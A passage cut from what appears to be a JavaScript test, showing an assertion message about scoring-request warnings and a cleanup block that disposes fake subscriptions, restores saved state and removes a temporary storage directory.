        `each scoring request explains why it does nothing (${warnings.length} warnings)`,
      );
    } finally {
      for (const s of subscriptions) {
        try {
          s.dispose();
        } catch {
          /* disposing a fake */
        }
      }
      Object.assign(cp, saved);
      rmSync(storage, { recursive: true, force: true });
    }
  },
);
